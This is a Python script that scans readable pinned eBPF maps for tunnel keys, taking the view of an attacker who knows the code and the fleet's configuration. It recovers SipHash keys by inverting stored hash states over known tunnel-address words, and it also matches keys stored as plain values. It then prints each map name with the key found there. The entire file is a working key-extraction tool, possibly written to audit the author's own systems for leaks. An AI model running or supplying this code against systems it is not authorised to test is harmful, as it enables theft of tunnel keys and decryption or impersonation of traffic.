#!/usr/bin/python3 -B
# SPDX-License-Identifier: GPL-3.0-or-later
"""Looks for tunnel keys in every pinned map that the caller may read, as an attacker who knows the
code and the fleet's configuration would. Prints each candidate once: where it lies, and the key.

A key lies somewhere as it is, or in a state of SipHash that was begun with it. Such a state can be
run backwards over the words that it was fed, which are known; that they were the right ones shows
in the constants that the start is made of.
"""
import argparse
import ctypes
import ipaddress
import os
import struct

BPF_MAP_LOOKUP_ELEM, BPF_MAP_GET_NEXT_KEY, BPF_OBJ_GET, BPF_OBJ_GET_INFO_BY_FD = 1, 4, 7, 15
BPF_F_RDONLY = 8
PERCPU = {5, 6, 10, 21}  # hash, array, LRU hash, cgroup storage
SYS_BPF = {"x86_64": 321, "aarch64": 280}[os.uname().machine]
MASK = (1 << 64) - 1
START = (0x736F6D6570736575, 0x646F72616E646F6D, 0x6C7967656E657261, 0x7465646279746573)

libc = ctypes.CDLL(None, use_errno=True)


def bpf(command, attr):
    room = ctypes.create_string_buffer(attr.ljust(128, b"\0"))
    got = libc.syscall(SYS_BPF, command, room, len(room))
    return -ctypes.get_errno() if got < 0 else got


def address(buffer):
    return ctypes.addressof(buffer)


def open_pin(path):
    name = ctypes.create_string_buffer(path.encode())
    return bpf(BPF_OBJ_GET, struct.pack("<QII", address(name), 0, BPF_F_RDONLY))


def geometry(fd):
    """Type, and bytes of a key and a value as the kernel copies it; None: no map."""
    info = ctypes.create_string_buffer(256)
    if bpf(BPF_OBJ_GET_INFO_BY_FD, struct.pack("<IIQ", fd, len(info), address(info))):
        return None
    kind, _, key, value, entries = struct.unpack_from("<5I", info)
    if not 0 < key <= 64 or not value or not entries:
        return None
    if kind in PERCPU:
        with open("/sys/devices/system/cpu/possible", encoding="ascii") as file:
            value = (value + 7) // 8 * 8 * (int(file.read().split("-")[-1]) + 1)
    return kind, key, value


def values(fd):
    shape = geometry(fd)
    if not shape:
        return
    key, after = (ctypes.create_string_buffer(shape[1]) for _ in range(2))
    value = ctypes.create_string_buffer(shape[2])
    previous = 0
    while not bpf(BPF_MAP_GET_NEXT_KEY, struct.pack("<IIQQ", fd, 0, previous, address(after))):
        key.raw = after.raw
        previous = address(key)
        if not bpf(BPF_MAP_LOOKUP_ELEM, struct.pack("<IIQQQ", fd, 0, previous, address(value), 0)):
            yield value.raw


# --- SipHash, backwards ---------------------------------------------------------------------------
def rotr(x, bits):
    return (x >> bits | x << (64 - bits)) & MASK


def round_back(v0, v1, v2, v3):
    v2 = rotr(v2, 32)
    v3 = rotr(v3 ^ v0, 21)
    v0 = (v0 - v3) & MASK
    v1 = rotr(v1 ^ v2, 17)
    v2 = (v2 - v1) & MASK
    v0 = rotr(v0, 32)
    v3 = rotr(v3 ^ v2, 16)
    v2 = (v2 - v3) & MASK
    v1 = rotr(v1 ^ v0, 13)
    v0 = (v0 - v1) & MASK
    return v0, v1, v2, v3


def key_behind(state, words):
    """The key that this state was begun with, if these words led to it, or None."""
    v0, v1, v2, v3 = state
    for word in reversed(words):
        v0, v1, v2, v3 = round_back(*round_back(v0 ^ word, v1, v2, v3))
        v3 ^= word
    if v0 ^ v2 != START[0] ^ START[2] or v1 ^ v3 != START[1] ^ START[3]:
        return None
    return struct.pack("<QQ", v0 ^ START[0], v1 ^ START[1])


def ends(a, b):
    """The word that two IPv4 addresses make, as they lie on the wire."""
    return struct.unpack("<Q", ipaddress.ip_address(a).packed + ipaddress.ip_address(b).packed)[0]


def states(value, words, first):
    """Each 32 bytes as a state, led to by the ends and by what lies before it."""
    for at in range(3, len(words) - 3):
        if any(words[at:at + 4]):
            for two in first:
                key = key_behind(words[at:at + 4], (two, *words[at - 3:at]))
                if key:
                    yield key


def look(fd, wanted, first):
    for value in values(fd):
        for key in wanted:
            if key in value:
                yield key
        words = struct.unpack_from(f"<{len(value) // 8}Q", value)
        yield from states(value, words, first)


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--wanted", action="append", default=[],
                        help="a key by which to know one that lies there as it is")
    parser.add_argument("--ends", nargs=2, required=True, help="tunnel addresses of two nodes")
    parser.add_argument("--list", action="store_true", help="print which maps can be read instead")
    parser.add_argument("dir")
    args = parser.parse_args()
    first = [ends(*args.ends), ends(*reversed(args.ends))]
    found = set()
    for name in sorted(os.listdir(args.dir)):
        fd = open_pin(os.path.join(args.dir, name))
        if fd < 0:
            continue
        if args.list:
            print(name)
            continue
        found |= {(name, key.hex()) for key in look(fd, map(bytes.fromhex, args.wanted), first)}
        os.close(fd)
    for name, key in sorted(found):
        print(name, key)


main()
